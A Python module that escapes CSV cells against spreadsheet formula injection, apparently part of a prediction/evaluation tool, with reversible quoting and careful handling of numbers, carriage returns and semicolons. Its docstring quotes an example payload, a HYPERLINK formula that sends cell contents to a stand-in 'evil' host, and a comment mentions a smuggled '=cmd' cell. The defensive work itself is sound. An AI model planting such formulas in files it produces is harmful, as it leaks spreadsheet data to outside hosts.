"""Every CSV the tool writes goes through here, so no cell can run as a spreadsheet formula.

A file name like `=HYPERLINK("http://evil/?"&A1,"x").png` would otherwise land raw in a
cell of predict's or eval's CSV, and Excel, LibreOffice or Google Sheets would evaluate it
when a colleague opens the file ("CSV injection"). The usual rule (OWASP) is applied: a cell
that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, which
spreadsheets show as text and do not evaluate. Plain numbers (`-0.5`, `1e-06`) are left alone:
they are not formulas, and a quote would turn them into text.

The rule is reversible, so the tool reads its own files back exactly (`read_cell`): a value
that itself starts with `'` followed by something that would be escaped gets one more `'`.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def _needs_quote(text: str) -> bool:
    """True when a spreadsheet could read `text` as a formula, or when `read_cell` would
    strip a quote from it (so that escaping stays reversible)."""
    quotes = len(text) - len(text.lstrip(QUOTE))
    rest = text[quotes:]
    if not rest.startswith(FORMULA_STARTS):
        return False
    return quotes > 0 or _NUMBER.fullmatch(rest) is None


def safe_cell(value: Any) -> Any:
    """`value` as it may go into a CSV cell (non-strings pass unchanged: numbers are safe)."""
    if isinstance(value, str) and _needs_quote(value):
        return QUOTE + value
    return value


def read_cell(text: str) -> str:
    """The value `safe_cell` was given, from the cell text it produced."""
    if text.startswith(QUOTE) and _needs_quote(text[1:]):
        return text[1:]
    return text


class SafeWriter:
    """`csv.writer` with newline line ends whose rows pass through `safe_cell`."""

    def __init__(self, stream: IO[str]) -> None:
        self._writer = csv.writer(stream, lineterminator="\n")
        # With "\n" line ends the csv module leaves a bare "\r" unquoted, and the row then
        # cannot be read back: such rows (rare: a file name with a carriage return) are
        # written with every cell quoted; all other rows are byte-for-byte as before.
        # The same for a `;` in a cell: a spreadsheet that splits on `;` (the usual separator
        # where the decimal mark is a comma) would make `x;=cmd` two cells, the second a
        # formula; inside double quotes it stays one cell of text.
        self._quoted = csv.writer(stream, lineterminator="\n", quoting=csv.QUOTE_ALL)

    def writerow(self, row: Iterable[Any]) -> None:
        cells = [safe_cell(value) for value in row]
        if any(isinstance(cell, str) and ("\r" in cell or ";" in cell) for cell in cells):
            self._quoted.writerow(cells)
        else:
            self._writer.writerow(cells)

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def to_text(rows: Iterable[Iterable[Any]]) -> str:
    """Rows as CSV text (header included if it is the first row)."""
    buffer = io.StringIO()
    SafeWriter(buffer).writerows(rows)
    return buffer.getvalue()


def read_rows(text: str) -> list[list[str]]:
    """Rows of CSV text the tool wrote, every cell restored with `read_cell`."""
    return [[read_cell(cell) for cell in row] for row in csv.reader(io.StringIO(text))]
